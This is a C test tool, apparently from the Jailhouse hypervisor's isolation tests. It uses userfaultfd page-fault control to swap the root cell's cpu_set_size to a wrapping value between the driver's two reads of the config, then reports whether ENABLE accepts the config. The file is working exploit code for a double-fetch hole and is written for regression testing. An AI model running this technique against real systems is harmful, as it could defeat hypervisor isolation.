// SPDX-License-Identifier: GPL-2.0-only
/*
 * Test tool (isolation tests, hole 9): a root user whose system config
 * changes between the driver's reads of it, made deterministic with
 * userfaultfd instead of left to a race.
 *
 * The config is placed so that a page boundary cuts its header after the
 * root cell's cpu_set_size: page A holds the start of the header with that
 * field, page B the rest. Both start missing. A read of the header faults
 * on A, then on B; when the fault on B arrives, the reader is done with A,
 * so A is dropped again before B is served. The next read of the header
 * faults on A once more and is served a cpu_set_size of 0x20000001: half a
 * GiB of CPU set, but 8 bits if counted as size * 8 in 32 bits. A driver
 * that checks its first read and uses its second hands the hypervisor a
 * config it never checked; one that compares its copies refuses.
 *   jh-enable-toctou <system.cell>
 * Prints the ENABLE outcome and the faults served; exits 0 if the process
 * survived (a successful ENABLE is undone with DISABLE).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* sys/stat.h brought the kernel's __u8..__u64 already */
#define _JAILHOUSE_HAVE_FIXED_TYPES
#include <jailhouse/cell-config.h>

#define JAILHOUSE_ENABLE	_IOW(0, 0, void *)
#define JAILHOUSE_DISABLE	_IO(0, 1)

#define WRAPPING_SET_SIZE	0x20000001u
#define SET_SIZE_OFF	offsetof(struct jailhouse_system, root_cell.cpu_set_size)

static long page;
static int uffd;
static char *area;		/* registered with userfaultfd, all missing */
static size_t area_size;
static char *image;		/* what the area shows: the config at config_off */
static char *mutated;		/* page A as the second read sees it */
static char trace[256];

static void serve(char *at, const char *from)
{
	struct uffdio_copy copy = {
		.dst = (unsigned long)at,
		.src = (unsigned long)from,
		.len = page,
	};

	if (ioctl(uffd, UFFDIO_COPY, &copy)) {
		perror("UFFDIO_COPY");
		exit(1);
	}
}

static void *fault_handler(void *arg)
{
	char *page_a = arg;
	unsigned int a_served = 0;
	struct uffd_msg msg;
	struct pollfd pfd = { .fd = uffd, .events = POLLIN };
	char *at;

	for (;;) {
		if (poll(&pfd, 1, -1) < 0 || read(uffd, &msg, sizeof(msg)) != sizeof(msg))
			return NULL;
		if (msg.event != UFFD_EVENT_PAGEFAULT)
			continue;
		at = (char *)(msg.arg.pagefault.address & ~(page - 1));
		if (at == page_a) {
			strcat(trace, a_served ? " A(mutated)" : " A");
			serve(at, a_served ? mutated : image);
			a_served++;
			continue;
		}
		/* the reader moved past A: the next read of A faults again */
		if (a_served == 1 && madvise(page_a, page, MADV_DONTNEED)) {
			perror("madvise");
			exit(1);
		}
		strcat(trace, at == page_a + page ? " B" : " +");
		serve(at, image + (at - area));
	}
}

int main(int argc, char **argv)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	size_t config_off, cut;
	struct stat st;
	pthread_t t;
	int fd, cfd, ret, err;

	if (argc != 2) {
		fprintf(stderr, "usage: jh-enable-toctou <system.cell>\n");
		return 2;
	}
	page = sysconf(_SC_PAGESIZE);
	cfd = open(argv[1], O_RDONLY);
	if (cfd < 0 || fstat(cfd, &st)) {
		perror(argv[1]);
		return 1;
	}
	if ((size_t)st.st_size < sizeof(struct jailhouse_system)) {
		fprintf(stderr, "%s: shorter than a system config header\n", argv[1]);
		return 1;
	}
	/* cut the header between cpu_set_size and its end */
	cut = (SET_SIZE_OFF + 4 + sizeof(struct jailhouse_system)) / 2;
	config_off = page - cut;
	area_size = (config_off + st.st_size + page - 1) / page * page;
	image = aligned_alloc(page, area_size);
	mutated = aligned_alloc(page, page);
	if (!image || !mutated)
		return 1;
	memset(image, 0, area_size);
	if (pread(cfd, image + config_off, st.st_size, 0) != st.st_size) {
		perror(argv[1]);
		return 1;
	}
	memcpy(mutated, image, page);
	*(uint32_t *)(mutated + config_off + SET_SIZE_OFF) = WRAPPING_SET_SIZE;

	uffd = syscall(SYS_userfaultfd, O_CLOEXEC);
	if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api)) {
		perror("userfaultfd");
		return 1;
	}
	area = mmap(NULL, area_size, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (area == MAP_FAILED)
		return 1;
	reg.range.start = (unsigned long)area;
	reg.range.len = area_size;
	if (ioctl(uffd, UFFDIO_REGISTER, &reg)) {
		perror("UFFDIO_REGISTER");
		return 1;
	}
	pthread_create(&t, NULL, fault_handler, area);

	fd = open("/dev/jailhouse", O_RDWR);
	if (fd < 0) {
		perror("/dev/jailhouse");
		return 1;
	}
	ret = ioctl(fd, JAILHOUSE_ENABLE, area + config_off);
	err = errno;
	printf("faults:%s\n", trace);
	if (ret == 0) {
		printf("enable: succeeded\n");
		if (ioctl(fd, JAILHOUSE_DISABLE))
			perror("disable");
	} else {
		printf("enable: errno %d (%s)\n", err, strerror(err));
	}
	return 0;
}
